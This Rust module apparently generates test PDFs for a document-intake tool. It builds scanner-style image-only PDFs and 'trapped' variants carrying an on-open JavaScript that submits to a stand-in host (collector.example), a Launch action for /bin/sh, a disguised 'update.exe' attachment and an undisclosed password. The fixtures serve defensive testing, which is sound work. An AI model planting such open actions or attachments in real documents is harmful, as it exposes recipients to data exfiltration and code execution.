//! PDF files as scanners make them (one image fills each page), and PDF files that set traps.

use crate::canvas::Canvas;
use crate::files::jpeg_gray;
use crate::t4::{self, Scheme};
use lopdf::{
    Dictionary, Document, EncryptionState, EncryptionVersion, Object, ObjectId, Permissions, Stream,
    dictionary,
};

/// How the image of a page is stored.
#[derive(Clone, Copy)]
pub(crate) enum Image {
    /// DCTDecode.
    Jpeg {
        /// 1..=100.
        quality: u8,
    },
    /// CCITTFaxDecode, K −1.
    Group4,
}

/// What a hostile PDF brings along.
#[derive(Clone, Copy)]
pub(crate) enum Trap {
    /// JavaScript that runs on opening.
    JavaScript,
    /// A program to start.
    Launch,
    /// An attachment.
    EmbeddedFile,
    /// A password that nobody told us.
    Password,
}

/// An image-only PDF.
#[must_use]
pub(crate) fn scanned(pages: &[Canvas], dpi: f32, image: Image) -> Vec<u8> {
    saved(build(pages, dpi, image))
}

/// The same with a trap.
#[must_use]
pub(crate) fn trapped(pages: &[Canvas], dpi: f32, trap: Trap) -> Vec<u8> {
    let mut pdf = build(pages, dpi, Image::Group4);
    match trap {
        Trap::JavaScript => on_opening(
            &mut pdf,
            dictionary! {
                "S" => "JavaScript",
                "JS" => Object::string_literal("app.alert('opened'); this.submitForm('http://collector.example/');"),
            },
        ),
        Trap::Launch => on_opening(
            &mut pdf,
            dictionary! {
                "S" => "Launch",
                "F" => Object::string_literal("/bin/sh"),
            },
        ),
        Trap::EmbeddedFile => attach(&mut pdf),
        Trap::Password => lock(&mut pdf),
    }
    saved(pdf)
}

/// A PDF of so many empty pages, each an object of its own.
#[must_use]
pub(crate) fn many_pages(pages: usize) -> Vec<u8> {
    const FIRST_PAGE: usize = 3;
    let kids: Vec<String> = (0..pages).map(|i| format!("{} 0 R", FIRST_PAGE + i)).collect();
    let mut objects = vec![
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        format!("<< /Type /Pages /Count {pages} /MediaBox [0 0 72 72] /Kids [{}] >>", kids.join(" ")),
    ];
    objects.extend((0..pages).map(|_| "<< /Type /Page /Parent 2 0 R /Resources << >> >>".to_owned()));
    let mut pdf = String::from("%PDF-1.4\n");
    let mut table = String::from("0000000000 65535 f \n");
    for (i, object) in objects.iter().enumerate() {
        table.push_str(&format!("{:010} 00000 n \n", pdf.len()));
        pdf.push_str(&format!("{} 0 obj\n{object}\nendobj\n", i + 1));
    }
    let (size, start) = (objects.len() + 1, pdf.len());
    pdf.push_str(&format!(
        "xref\n0 {size}\n{table}trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n"
    ));
    pdf.into_bytes()
}

fn build(pages: &[Canvas], dpi: f32, image: Image) -> Document {
    let mut pdf = Document::with_version("1.5");
    let tree = pdf.new_object_id();
    let kids: Vec<Object> =
        pages.iter().map(|page| add_page(&mut pdf, tree, page, dpi, image).into()).collect();
    let count = kids.len() as i64;
    pdf.set_object(tree, dictionary! { "Type" => "Pages", "Kids" => kids, "Count" => count });
    let root = pdf.add_object(dictionary! { "Type" => "Catalog", "Pages" => tree });
    let info = pdf.add_object(dictionary! {
        "Producer" => Object::string_literal("ScanStation 4.2"),
        "Author" => Object::string_literal("front-desk-03"),
    });
    pdf.trailer.set("Root", root);
    pdf.trailer.set("Info", info);
    let id = Object::string_literal("lazaret-corpus-0");
    pdf.trailer.set("ID", vec![id.clone(), id]);
    pdf
}

fn add_page(pdf: &mut Document, tree: ObjectId, page: &Canvas, dpi: f32, image: Image) -> ObjectId {
    let (width, height) = (page.width as f32 * 72.0 / dpi, page.height as f32 * 72.0 / dpi);
    let picture = pdf.add_object(picture(page, dpi, image));
    let draw = format!("q {width:.4} 0 0 {height:.4} 0 0 cm /Im0 Do Q");
    let contents = pdf.add_object(Stream::new(Dictionary::new(), draw.into_bytes()));
    pdf.add_object(dictionary! {
        "Type" => "Page",
        "Parent" => tree,
        "MediaBox" => vec![0.into(), 0.into(), width.into(), height.into()],
        "Resources" => dictionary! { "XObject" => dictionary! { "Im0" => picture } },
        "Contents" => contents,
    })
}

fn picture(page: &Canvas, dpi: f32, image: Image) -> Stream {
    let mut facts = dictionary! {
        "Type" => "XObject",
        "Subtype" => "Image",
        "Width" => page.width as i64,
        "Height" => page.height as i64,
        "ColorSpace" => "DeviceGray",
    };
    let data = match image {
        Image::Jpeg { quality } => {
            facts.set("BitsPerComponent", 8);
            facts.set("Filter", "DCTDecode");
            jpeg_gray(page, dpi as u16, quality)
        }
        Image::Group4 => {
            facts.set("BitsPerComponent", 1);
            facts.set("Filter", "CCITTFaxDecode");
            facts.set(
                "DecodeParms",
                dictionary! {
                    "K" => -1,
                    "Columns" => page.width as i64,
                    "Rows" => page.height as i64,
                },
            );
            t4::encode(page, Scheme::G4)
        }
    };
    Stream::new(facts, data).with_compression(false)
}

fn on_opening(pdf: &mut Document, action: Dictionary) {
    let action = pdf.add_object(action);
    let root = pdf.catalog_mut().expect("build() sets the catalog");
    root.set("OpenAction", action);
}

fn attach(pdf: &mut Document) {
    let data =
        pdf.add_object(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"MZ not a program".to_vec()));
    let file = pdf.add_object(dictionary! {
        "Type" => "Filespec",
        "F" => Object::string_literal("update.exe"),
        "EF" => dictionary! { "F" => data },
    });
    let names = vec![Object::string_literal("update.exe"), file.into()];
    let root = pdf.catalog_mut().expect("build() sets the catalog");
    root.set("Names", dictionary! { "EmbeddedFiles" => dictionary! { "Names" => names } });
}

/// With the oldest scheme: it is the one whose every byte follows from the passwords.
fn lock(pdf: &mut Document) {
    let state = EncryptionState::try_from(EncryptionVersion::V1 {
        document: pdf,
        owner_password: "owner",
        user_password: "not in the envelope",
        permissions: Permissions::all(),
    })
    .expect("the document has an ID");
    pdf.encrypt(&state).expect("the document was not encrypted before");
}

fn saved(mut pdf: Document) -> Vec<u8> {
    let mut bytes = Vec::new();
    pdf.save_to(&mut bytes).expect("writing to memory does not fail");
    bytes
}
